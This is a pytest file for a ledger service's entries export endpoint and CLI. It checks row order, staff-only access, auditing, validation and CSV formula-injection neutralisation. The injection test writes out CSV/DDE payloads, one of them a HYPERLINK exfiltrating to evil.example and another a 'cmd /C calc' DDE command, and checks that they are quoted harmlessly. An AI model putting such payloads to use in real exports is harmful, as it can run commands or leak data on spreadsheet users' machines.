"""``GET /v1/exports/entries`` and ``agent-ledger export``.

Pins down issue #5 (2): NDJSON and CSV with the listing's rows in the listing's order, CSV cells
that cannot run as formulas (negative amounts stay numbers), staff only, and an
``export.entries`` audit event for every export, written when the stream ends.
"""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import json
import secrets
from collections.abc import AsyncIterator
from pathlib import Path

import asyncpg
import pytest
from litestar.testing import AsyncTestClient

from agent_ledger.app import create_app
from agent_ledger.audit.recorder import AuditContext
from agent_ledger.config import Settings
from agent_ledger.db import create_pool
from agent_ledger.entries.schemas import EntryFilters
from agent_ledger.exports import cli as export_cli
from agent_ledger.exports.formats import CSV_COLUMNS, neutralise_cell
from agent_ledger.exports.service import export_entries
from tests.conftest import Fleet, bearer
from tests.ledger_helpers import spender
from tests.test_entries import (
    charge,
    eventually,
    listable,
    page_all,
)


@pytest.fixture(scope="module")
async def client(settings: Settings) -> AsyncIterator[AsyncTestClient]:
    app = create_app(settings)
    async with AsyncTestClient(app) as test_client:
        yield test_client


async def populated_team(client: AsyncTestClient, fleet: Fleet, db: asyncpg.Connection) -> dict:
    """A team of two agents with charges, a model-priced charge and a refund."""
    team = await fleet.team(f"export-{secrets.token_hex(3)}")
    a = await fleet.agent("export-a", team_id=team["id"])
    b = await fleet.agent("export-b", team_id=team["id"])
    for i in range(5):
        await charge(client, fleet.admin, (a if i % 2 else b)["id"], amount=f"0.0{i + 1}")
    await charge(client, fleet.admin, a["id"], model="gpt-4o", input_tokens=123, output_tokens=45)
    refund = await client.post(
        "/v1/adjustments",
        json={"agent_id": b["id"], "amount": "-0.025", "reason": "refund"},
        headers=fleet.admin,
    )
    assert refund.status_code == 201, refund.text
    await listable(db)
    return {"team": team, "a": a, "b": b}


def row_count(text: str, export_format: str) -> int:
    if export_format == "csv":
        return max(len(list(csv.reader(io.StringIO(text, newline="")))) - 1, 0)
    return len(text.splitlines())


async def export(
    client: AsyncTestClient, headers: dict, *, expect: int | None = None, **params: str
) -> tuple[str, dict]:
    """One export; with ``expect``, exported again until it holds that many rows (see
    tests.test_entries.eventually for why a moment's shortfall can happen)."""

    async def once() -> tuple[str, dict]:
        response = await client.get("/v1/exports/entries", params=params, headers=headers)
        assert response.status_code == 200, response.text
        return response.text, dict(response.headers)

    return await eventually(
        once,
        lambda got: expect is None or row_count(got[0], params.get("format", "ndjson")) >= expect,
    )


def csv_records(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


def as_csv_cells(entry: dict) -> dict[str, str]:
    """What the CSV must say for an entry of the listing."""
    cells = {}
    for column in CSV_COLUMNS:
        value = entry[column]
        if value is None:
            text = ""
        elif isinstance(value, dict):
            text = json.dumps(value, separators=(",", ":"))
        else:
            text = str(value)
        cells[column] = neutralise_cell(text)
    return cells


async def test_ndjson_export_matches_the_listing_row_for_row(
    client: AsyncTestClient, fleet: Fleet, db: asyncpg.Connection, auditor_key: str
) -> None:
    """Same filters, same rows, same order, same fields, byte for byte as JSON values."""
    made = await populated_team(client, fleet, db)
    team_id = made["team"]["id"]
    text, headers = await export(
        client, bearer(auditor_key), expect=7, format="ndjson", team_id=team_id
    )
    assert headers["content-type"] == "application/x-ndjson"
    assert "attachment" in headers["content-disposition"]
    lines = [json.loads(line) for line in text.splitlines()]
    assert text.endswith("\n")
    listed = await page_all(client, fleet.admin, limit=3, expect=7, team_id=team_id)
    assert len(lines) == 7
    assert lines == listed

    for count, params in (
        (3, {"agent_id": made["a"]["id"]}),
        (
            3,
            {
                "team_id": team_id,
                "since": listed[2]["created_at"],
                "until": listed[5]["created_at"],
            },
        ),
        (2, {"agent_id": made["b"]["id"], "until": listed[4]["created_at"]}),
    ):
        text, _ = await export(client, fleet.admin, expect=count, **params)
        exported = [json.loads(line) for line in text.splitlines()]
        assert exported == await page_all(client, fleet.admin, limit=2, expect=count, **params)
        assert len(exported) == count, params


async def test_csv_export_has_a_header_and_the_listing_rows(
    client: AsyncTestClient, fleet: Fleet, db: asyncpg.Connection
) -> None:
    """One header row, then one row per entry with the listing's values, amounts exact; the
    media type names its charset once."""
    made = await populated_team(client, fleet, db)
    text, headers = await export(
        client, fleet.admin, expect=7, format="csv", team_id=made["team"]["id"]
    )
    assert headers["content-type"] == "text/csv; charset=utf-8"
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n")
    listed = await page_all(client, fleet.admin, limit=1000, expect=7, team_id=made["team"]["id"])
    records = csv_records(text)
    assert records == [as_csv_cells(e) for e in listed]
    assert [r["amount"] for r in records][-1] == "-0.025"  # a refund stays a number


async def test_csv_cells_cannot_run_as_formulas(
    client: AsyncTestClient, fleet: Fleet, db: asyncpg.Connection
) -> None:
    """Cells starting with = + - @ tab or CR get a leading quote; plain numbers do not."""
    agent = await fleet.agent('=HYPERLINK("http://evil","click")')
    hostile = {
        "description": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "model": "+cmd|' /C calc'!A0",
        "metadata": {"note": "@SUM(1+1)*cmd|' /C calc'!A0"},
    }
    await charge(client, fleet.admin, agent["id"], amount="1.5", **hostile)
    await charge(client, fleet.admin, agent["id"], description="-2+3+cmd|' /C calc'!A0")
    await charge(client, fleet.admin, agent["id"], description="\tsneaky")
    refund = await client.post(
        "/v1/adjustments",
        json={"agent_id": agent["id"], "amount": "-0.5", "reason": "=1+1"},
        headers=fleet.admin,
    )
    assert refund.status_code == 201, refund.text
    await listable(db)

    text, _ = await export(client, fleet.admin, expect=4, format="csv", agent_id=agent["id"])
    records = csv_records(text)
    first, second, third, adjustment = records
    assert first["description"] == "'" + hostile["description"]
    assert first["model"] == "'" + hostile["model"]
    assert first["metadata"] == '{"note":"@SUM(1+1)*cmd|\' /C calc\'!A0"}'  # starts with {
    assert second["description"] == "'-2+3+cmd|' /C calc'!A0"
    assert third["description"] == "'\tsneaky"
    assert adjustment["description"] == "'=1+1"
    assert adjustment["amount"] == "-0.5"
    assert first["amount"] == "1.5"
    for record in records:
        for cell in record.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-0.5", cell


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),
        ("-12", "-12"),
        ("0.0175", "0.0175"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_cell(text: str, safe: str) -> None:
    """The OWASP rule, with plain (negative) decimal numbers left alone."""
    assert neutralise_cell(text) == safe


async def test_an_agent_cannot_export(
    client: AsyncTestClient, fleet: Fleet, db: asyncpg.Connection
) -> None:
    """Exports are for admins and auditors: an agent key gets 403, even for its own entries."""
    me = await spender(fleet, name="exporter")
    for params in ({}, {"agent_id": me.agent_id}, {"format": "csv"}):
        response = await client.get("/v1/exports/entries", params=params, headers=me.headers)
        assert response.status_code == 403, response.text
        assert response.json()["code"] == "forbidden"
    assert (await client.get("/v1/exports/entries")).status_code == 401
    assert not await db.fetchval(
        "SELECT count(*) FROM audit_events WHERE action = 'export.entries' AND actor_key_id IN "
        "(SELECT id FROM api_keys WHERE agent_id = $1)",
        me.agent_id,
    )


async def test_every_export_leaves_an_audit_event(
    client: AsyncTestClient, fleet: Fleet, db: asyncpg.Connection, auditor_key: str
) -> None:
    """Who exported, with which filters, how many rows, in the request's id."""
    made = await populated_team(client, fleet, db)
    since = "2020-01-01T00:00:00Z"
    _, headers = await export(
        client,
        bearer(auditor_key),
        expect=7,
        format="csv",
        team_id=made["team"]["id"],
        since=since,
    )
    event = await db.fetchrow(
        "SELECT * FROM audit_events WHERE action = 'export.entries' AND request_id = $1",
        headers["x-request-id"],
    )
    assert event is not None
    # The key's own id: other tests' auditor keys share the name "test auditor".
    me = await client.get("/v1/me", headers=bearer(auditor_key))
    auditor_key_id = me.json()["key_id"]
    assert event["actor_key_id"] == auditor_key_id and event["actor_role"] == "auditor"
    assert event["target_type"] == "entries"
    assert event["after"] == {
        "format": "csv",
        "filters": {"team_id": made["team"]["id"], "since": "2020-01-01T00:00:00+00:00"},
        "rows": 7,
        "completed": True,
    }
    assert event["before"] is None


async def test_export_parameters_are_validated_before_streaming(
    client: AsyncTestClient, fleet: Fleet
) -> None:
    """A bad format or period is a problem answer, not a broken stream."""
    for params, status in (
        ({"format": "xlsx"}, 422),
        ({"since": "2026-02-01T00:00:00Z", "until": "2026-01-01T00:00:00Z"}, 422),
        ({"until": "soon"}, 400),
    ):
        response = await client.get("/v1/exports/entries", params=params, headers=fleet.admin)
        assert response.status_code == status, response.text
        assert response.json()["code"] == "validation-error"


def run_export_cli(database_url: str, *argv: str) -> int:
    parser = argparse.ArgumentParser()
    commands = parser.add_subparsers(dest="command", required=True)
    export_cli.register(commands)
    args = parser.parse_args(["export", *argv])
    return args.func(args)


async def test_cli_export_writes_what_the_api_serves(
    client: AsyncTestClient,
    fleet: Fleet,
    db: asyncpg.Connection,
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """``agent-ledger export`` gives the same bytes as the endpoint and is audited as the CLI."""
    made = await populated_team(client, fleet, db)
    team_id = made["team"]["id"]
    monkeypatch.setenv("DATABASE_URL", database_url)
    for fmt in ("ndjson", "csv"):
        output = tmp_path / f"entries.{fmt}"
        argv = ("--format", fmt, "--team-id", team_id, "--output", str(output))

        async def run_cli(argv: tuple[str, ...] = argv, output: Path = output) -> str:
            assert await asyncio.to_thread(run_export_cli, database_url, *argv) == 0
            return output.read_bytes().decode()

        written = await eventually(run_cli, lambda text, fmt=fmt: row_count(text, fmt) >= 7)
        served, _ = await export(client, fleet.admin, expect=7, format=fmt, team_id=team_id)
        assert written == served
    events = await db.fetch(
        "SELECT after FROM audit_events WHERE action = 'export.entries' AND actor_role = 'cli'"
        " AND after -> 'filters' ->> 'team_id' = $1 ORDER BY seq",
        team_id,
    )
    complete = [(e["after"]["format"], e["after"]["rows"]) for e in events if e["after"]["rows"]]
    assert ("ndjson", 7) in complete and ("csv", 7) in complete


async def test_an_export_broken_off_is_still_audited(
    client: AsyncTestClient, fleet: Fleet, db: asyncpg.Connection, database_url: str
) -> None:
    """A client that hangs up mid-stream leaves an event marked as not completed."""

    agent = await fleet.agent("broken-off")
    for _ in range(3):
        await charge(client, fleet.admin, agent["id"])
    await listable(db)
    marker = f"req-{secrets.token_hex(4)}"
    ctx = AuditContext(actor_key_id=None, actor_role="test", request_id=marker, client_ip=None)
    pool = await create_pool(database_url, min_size=1, max_size=2)
    try:
        stream = export_entries(pool, ctx, EntryFilters(agent_id=agent["id"]), "csv")
        assert (await anext(stream)).startswith(b"id,seq,")  # the header; then hang up
        await stream.aclose()
    finally:
        await pool.close()
    event = await db.fetchrow("SELECT after FROM audit_events WHERE request_id = $1", marker)
    assert event["after"] == {
        "format": "csv",
        "filters": {"agent_id": agent["id"]},
        "rows": 0,
        "completed": False,
    }
